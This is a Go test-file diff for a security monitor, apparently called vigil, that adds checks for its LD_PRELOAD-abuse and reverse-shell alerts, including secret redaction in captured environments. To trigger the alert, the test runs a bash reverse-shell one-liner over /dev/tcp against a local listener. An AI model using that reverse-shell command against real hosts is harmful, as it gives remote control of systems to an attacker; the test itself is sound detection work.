@@ -6,6 +6,7 @@ import (
 	"encoding/json"
 	"fmt"
 	"io"
+	"net"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -156,6 +157,49 @@ func TestRunBuiltinAlerts(t *testing.T) {
 	a = waitAlert(t, alerts, "Write below etc", cmd.Process.Pid)
 	if ev := a["event"].(map[string]any); ev["file.path"] != etc || ev["file.write"] != true {
 		t.Errorf("write below etc: %v", a)
+	}
+
+	// A program started with LD_PRELOAD from /tmp: the built-in rule reads
+	// proc.env, so vigil collects environments; a secret's value is not kept.
+	cmd = exec.Command("/bin/true")
+	cmd.Env = []string{"LD_PRELOAD=/tmp/vigil-test.so", "API_TOKEN=s3cr3t"}
+	cmd.Run() // the loader warns about the missing library
+	a = waitAlert(t, alerts, "Dynamic loader environment variable abuse", cmd.Process.Pid)
+	env, _ := a["event"].(map[string]any)["proc.env"].(map[string]any)
+	if env["LD_PRELOAD"] != "/tmp/vigil-test.so" || env["API_TOKEN"] != "" || len(env) != 2 {
+		t.Errorf("proc.env in the alert: %v", env)
+	}
+	if strings.Contains(fmt.Sprint(a), "s3cr3t") {
+		t.Errorf("the alert carries a secret value: %v", a)
+	}
+
+	// A reverse shell: bash puts a TCP connection on its stdin and stdout.
+	l, err := net.Listen("tcp4", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer l.Close()
+	go func() {
+		if conn, err := l.Accept(); err == nil {
+			conn.Write([]byte("exit\n"))
+			io.Copy(io.Discard, conn)
+			conn.Close()
+		}
+	}()
+	port := l.Addr().(*net.TCPAddr).Port
+	cmd = exec.Command("bash", "-c", fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", port))
+	timer := time.AfterFunc(20*time.Second, func() { cmd.Process.Kill() })
+	defer timer.Stop()
+	if out, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("reverse shell: %v %s", err, out)
+	}
+	a = waitAlertWhere(t, alerts, "reverse shell", "Network socket redirected to standard input or output", func(ev map[string]any) bool {
+		return ev["proc.ppid"] == float64(cmd.Process.Pid)
+	})
+	ev = a["event"].(map[string]any)
+	if a["priority"] != "Critical" || ev["evt.type"] != "dup" || ev["net.dip"] != "127.0.0.1" || ev["net.dport"] != float64(port) ||
+		ev["proc.name"] != "bash" || !strings.Contains(a["output"].(string), fmt.Sprintf("connection=127.0.0.1:%d", port)) {
+		t.Errorf("reverse shell alert: %v", a)
 	}
 }
 
